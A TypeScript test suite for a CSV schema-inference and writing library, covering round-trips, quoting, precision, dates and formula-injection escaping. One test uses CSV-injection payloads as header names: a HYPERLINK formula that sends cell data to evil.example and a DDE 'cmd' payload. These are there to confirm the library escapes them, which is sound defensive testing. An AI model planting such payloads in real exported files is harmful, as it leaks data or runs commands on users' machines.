import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { Schema } from '../../src/core/schema.js';
import { makeTable } from '../../src/core/table.js';
import { buildTable } from '../../src/io/build.js';
import { parseCsv } from '../../src/io/csv.js';
import { inferSchema, refreshSchema } from '../../src/io/infer.js';
import { escapeFormula, escapeHeader, previewCsv, writeCsv } from '../../src/io/write.js';
import { expectError, fixture } from './helpers.js';

function roundTrip(name: string) {
  const parsed = parseCsv(fixture(name));
  const { schema } = inferSchema(parsed);
  const table = buildTable(parsed, schema);
  const csv = writeCsv(table, schema, { delimiter: parsed.delimiter });
  return { parsed, schema, table, csv, again: parseCsv(csv) };
}

describe('buildTable', () => {
  it('types columns under the schema', () => {
    const parsed = parseCsv(fixture('mixed.csv'));
    const { schema } = inferSchema(parsed);
    const t = buildTable(parsed, schema);
    expect(t.names).toEqual(parsed.header);
    expect(t.nRows).toBe(12);
    const byName = (n: string) => t.columns[t.names.indexOf(n)]!;
    const id = byName('patient_id');
    expect(id.kind).toBe('text');
    const age = byName('age');
    expect(age.kind === 'num' && Array.from(age.values.slice(0, 3))).toEqual([34, NaN, 51]);
    const visit = byName('visit');
    expect(visit.kind === 'num' && Array.from(visit.values.slice(2, 4))).toEqual([Date.UTC(2021, 3, 10), NaN]);
    const sex = byName('sex');
    expect(sex.kind === 'cat' && [sex.levels, Array.from(sex.codes.slice(4, 6))]).toEqual([
      ['F', 'M'],
      [0, -1],
    ]);
    const smoker = byName('smoker');
    expect(smoker.kind === 'cat' && [smoker.levels, Array.from(smoker.codes.slice(0, 3))]).toEqual([
      ['no', 'yes'],
      [1, 0, 0],
    ]);
  });
  it('numeric labels match by value ("1.0" is level "1"); skipped columns come as text', () => {
    const parsed = parseCsv('a,b\n1,x\n1.0,y\n2,z\n');
    const s = inferSchema(parsed).schema;
    expect(s.columns[0]!.levels).toEqual(['1', '2']);
    const t = buildTable(parsed, { ...s, columns: s.columns.map((c) => ({ ...c, skip: c.name === 'b' })) });
    expect(t.columns[0]!.kind === 'cat' && Array.from(t.columns[0]!.codes)).toEqual([0, 0, 1]);
    expect(t.columns[1]).toEqual({ kind: 'text', values: ['x', 'y', 'z'] });
  });
  it('throws TYPE_MISMATCH like refreshSchema', () => {
    const parsed = parseCsv(fixture('mixed.csv'));
    const s = inferSchema(parsed).schema;
    expectError(
      () =>
        buildTable(parsed, {
          ...s,
          columns: s.columns.map((c) => (c.name === 'sex' ? { ...c, sdtype: 'numerical' as const } : c)),
        }),
      'TYPE_MISMATCH',
      '"F" (line 2)',
    );
  });
});

describe('writeCsv', () => {
  it('round-trips the mixed fixture: header, numbers, labels, dates, missing (text cells formula-escaped)', () => {
    const { parsed, csv, again } = roundTrip('mixed.csv');
    expect(again.header).toEqual(parsed.header);
    expect(again.nRows).toBe(parsed.nRows);
    const norm = (s: string) => (s === '?' ? '' : s);
    parsed.header.forEach((name, j) => {
      const want = parsed.columns[j]!.map(norm);
      const got = again.columns[j]!;
      if (name === 'note') expect(got).toEqual(want.map((s) => escapeFormula(s)));
      else expect(got, name).toEqual(want);
    });
    expect(csv.split('\n')[1]).toBe("101,34,F,yes,2021-03-04,0.5,'=SUM(A1),70.25");
    expect(csv).toContain(',"say ""hi""",');
    expect(csv).toContain(",'-x,");
    expect(csv).toContain(",'@home,");
    expect(csv).toContain(",'+1 call,");
    expect(csv.endsWith('70.25\n') || csv.endsWith('\n')).toBe(true);
    expect(csv.endsWith('\n\n')).toBe(false);
    expect(csv.charCodeAt(0)).not.toBe(0xfeff);
    expect(csv).not.toContain('\r');
  });
  it('round-trips every date format exactly', () => {
    const { parsed, again } = roundTrip('dates.csv');
    expect(again.columns).toEqual(parsed.columns);
  });
  it('round-trips quoted newlines, delimiters and quotes', () => {
    const { parsed, again, csv } = roundTrip('quoted-newlines.csv');
    expect(again.columns).toEqual(parsed.columns);
    expect(csv).toContain('"first line\nsecond line"');
    expect(csv).toContain('"she said ""hi"""');
  });
  it('keeps the delimiter and encodes the Windows-1252 text as UTF-8 text', () => {
    for (const f of [
      'semicolon.csv',
      'tab.tsv',
      'pipe.csv',
      'latin1.csv',
      'bom.csv',
      'trailing-empty-column.csv',
      'constant-column.csv',
    ]) {
      const { parsed, again } = roundTrip(f);
      expect(again.delimiter, f).toBe(parsed.delimiter);
      expect(again.header, f).toEqual(parsed.header);
      expect(again.columns, f).toEqual(parsed.columns);
    }
    expect(roundTrip('latin1.csv').csv).toBe('name,city\nMüller,Köln\nGarcía,Málaga\nSmith,London €\n');
  });
  it('all-missing column stays empty', () => {
    const { csv } = roundTrip('all-missing-column.csv');
    expect(csv).toBe('age,comment,sex\n30,,m\n40,,f\n50,,m\n60,,f\n');
  });
  it('rounds to the column precision, whole numbers for integers, never exponent notation', () => {
    const schema: Schema = {
      target: null,
      columns: [
        {
          name: 'i',
          sdtype: 'numerical',
          skip: false,
          missingRate: 0,
          nUnique: 3,
          integer: true,
          min: -5,
          max: 1e7,
          decimals: 0,
        },
        {
          name: 'f',
          sdtype: 'numerical',
          skip: false,
          missingRate: 0,
          nUnique: 3,
          integer: false,
          min: 0,
          max: 1,
          decimals: 5,
        },
      ],
    };
    const t = makeTable(
      ['i', 'f'],
      [
        { kind: 'num', values: Float64Array.from([-4.6, 12345678.4, NaN, 2.5]) },
        { kind: 'num', values: Float64Array.from([0.000071234, 1.5, 0.1 + 0.2, -0.000001]) },
      ],
    );
    expect(writeCsv(t, schema)).toBe('i,f\n-5,0.00007\n12345678,1.5\n,0.3\n3,0\n');
  });
  it('escapes formulas only in text columns; numbers such as -5 are never touched', () => {
    const schema: Schema = {
      target: null,
      columns: [
        {
          name: 'num',
          sdtype: 'numerical',
          skip: false,
          missingRate: 0,
          nUnique: 2,
          integer: true,
          min: -5,
          max: 3,
          decimals: 0,
        },
        { name: 'numcat', sdtype: 'categorical', skip: false, missingRate: 0, nUnique: 2, levels: ['-1', '+2'] },
        {
          name: 'txt',
          sdtype: 'categorical',
          skip: false,
          missingRate: 0,
          nUnique: 6,
          levels: ['=1+1', '+x', '-5', '@a', '\tt', 'ok'],
        },
        { name: 'id', sdtype: 'id', skip: false, missingRate: 0, nUnique: 2 },
        { name: 'nid', sdtype: 'id', skip: false, missingRate: 0, nUnique: 2 },
      ],
    };
    const t = makeTable(
      ['num', 'numcat', 'txt', 'id', 'nid'],
      [
        { kind: 'num', values: Float64Array.from([-5, 3, -5, 3, -5, 3]) },
        { kind: 'cat', codes: Int32Array.from([0, 1, 0, 1, 0, 1]), levels: ['-1', '+2'] },
        { kind: 'cat', codes: Int32Array.from([0, 1, 2, 3, 4, 5]), levels: ['=1+1', '+x', '-5', '@a', '\tt', 'ok'] },
        { kind: 'text', values: ['-a', '=b', '@c', 'd', null, '+f'] },
        { kind: 'text', values: ['-1', '2', '-3', '4', '5', '6'] },
      ],
    );
    const rows = writeCsv(t, schema).trimEnd().split('\n');
    expect(rows).toEqual([
      'num,numcat,txt,id,nid',
      "-5,-1,'=1+1,'-a,-1",
      "3,+2,'+x,'=b,2",
      "-5,-1,'-5,'@c,-3",
      "3,+2,'@a,d,4",
      "-5,-1,'\tt,,5",
      "3,+2,ok,'+f,6",
    ]);
  });
  it('header is table.names exactly (skipped columns left out by the generator are simply absent)', () => {
    const parsed = parseCsv(fixture('mixed.csv'));
    const { schema } = inferSchema(parsed);
    const t = buildTable(parsed, schema);
    const sub = makeTable(['weight', 'sex'], [t.columns[7]!, t.columns[2]!]);
    expect(writeCsv(sub, schema).split('\n').slice(0, 3)).toEqual(['weight,sex', '70.25,F', ',M']);
    expect(writeCsv(sub, schema, { delimiter: ';' }).split('\n')[0]).toBe('weight;sex');
  });
  it('escapes formula-like header names like cells, and parseCsv reads our output back under the original names', () => {
    const names = [
      '=HYPERLINK("http://evil.example/?d="&A2,"open")',
      "+cmd|' /C calc'!A0",
      '@SUM(A1:A9)',
      '-2+3',
      "'=already",
      "'x",
      'plain',
    ];
    const schema: Schema = {
      target: null,
      columns: names.map((name) => ({ name, sdtype: 'id' as const, skip: false, missingRate: 0, nUnique: 2 })),
    };
    const t = makeTable(
      names,
      names.map(() => ({ kind: 'text' as const, values: ['a', 'b'] })),
    );
    const csv = writeCsv(t, schema);
    expect(csv.split('\n')[0]).toBe(
      `"'=HYPERLINK(""http://evil.example/?d=""&A2,""open"")",'+cmd|' /C calc'!A0,'@SUM(A1:A9),'-2+3,''=already,'x,plain`,
    );
    // no header cell of the file starts with a formula character
    for (const h of previewCsvRaw(csv)) expect(h, h).not.toMatch(/^[=+\-@\t\r]/);
    const again = parseCsv(csv);
    expect(again.header).toEqual(names);
    // a second trip writes the same bytes: the escape does not pile up quotes
    const { schema: s2 } = inferSchema(again);
    expect(
      writeCsv(buildTable(again, s2), { ...s2, columns: s2.columns.map((c) => ({ ...c, sdtype: 'id' as const })) }),
    ).toBe(csv);
    expect(previewCsv(csv, 1).header).toEqual(names);
    expect(names.map(escapeHeader)).toEqual([
      `'${names[0]}`,
      `'${names[1]}`,
      `'${names[2]}`,
      `'${names[3]}`,
      "''=already",
      "'x",
      'plain',
    ]);
    // the delimiter does not change the rule
    expect(parseCsv(writeCsv(t, schema, { delimiter: ';' })).header).toEqual(names);
  });
  it('quotes cells that contain the delimiter, quotes or line breaks (and only those)', () => {
    const schema: Schema = {
      target: null,
      columns: [{ name: 'a', sdtype: 'id', skip: false, missingRate: 0, nUnique: 4 }],
    };
    const t = makeTable(['a'], [{ kind: 'text', values: ['x,y', 'say "hi"', 'two\nlines', 'x;y'] }]);
    expect(writeCsv(t, schema)).toBe('a\n"x,y"\n"say ""hi"""\n"two\nlines"\nx;y\n');
    expect(writeCsv(t, schema, { delimiter: ';' })).toBe('a\nx,y\n"say ""hi"""\n"two\nlines"\n"x;y"\n');
  });
  it('synthetic datetimes are rounded to the input pattern and written in it', () => {
    const parsed = parseCsv(fixture('dates.csv'));
    const { schema } = inferSchema(parsed);
    const t0 = Date.UTC(2022, 10, 5, 7, 8, 39, 600); // 2022-11-05 07:08:39.600
    const names = schema.columns.slice(0, 6).map((c) => c.name);
    const t = makeTable(
      names,
      names.map(() => ({ kind: 'num' as const, values: Float64Array.from([t0, NaN]) })),
    );
    expect(writeCsv(t, schema).split('\n').slice(1, 3)).toEqual([
      '2022-11-05,2022-11-05 07:09,2022-11-05T07:08:39.600Z,5/11/2022,11/05/2022,2022/11/05',
      ',,,,,',
    ]);
  });
});

describe('refreshSchema round trip after type edits', () => {
  it('numerical → categorical → numerical writes the same file', () => {
    const parsed = parseCsv(fixture('mixed.csv'));
    const s0 = inferSchema(parsed).schema;
    const edit = (s: Schema, to: 'categorical' | 'numerical') =>
      refreshSchema(parsed, { ...s, columns: s.columns.map((c) => (c.name === 'weight' ? { ...c, sdtype: to } : c)) });
    const s1 = edit(s0, 'categorical');
    const s2 = edit(s1, 'numerical');
    const w0 = writeCsv(buildTable(parsed, s0), s0);
    expect(writeCsv(buildTable(parsed, s1), s1)).toBe(w0);
    expect(writeCsv(buildTable(parsed, s2), s2)).toBe(w0);
  });
});

describe('previewCsv', () => {
  it('returns the header and the first n rows', () => {
    const { csv } = roundTrip('quoted-newlines.csv');
    expect(previewCsv(csv, 2)).toEqual({
      header: ['id', 'comment', 'value'],
      rows: [
        ['1', 'first line\nsecond line', '10'],
        ['2', 'has, a comma', '20'],
      ],
    });
    expect(previewCsv('a;b\n1;2\n', 5)).toEqual({ header: ['a', 'b'], rows: [['1', '2']] });
  });
});

/** The header cells of a CSV text exactly as a spreadsheet sees them (no restoring). */
function previewCsvRaw(csv: string): string[] {
  return Papa.parse<string[]>(csv, { preview: 1 }).data[0] ?? [];
}
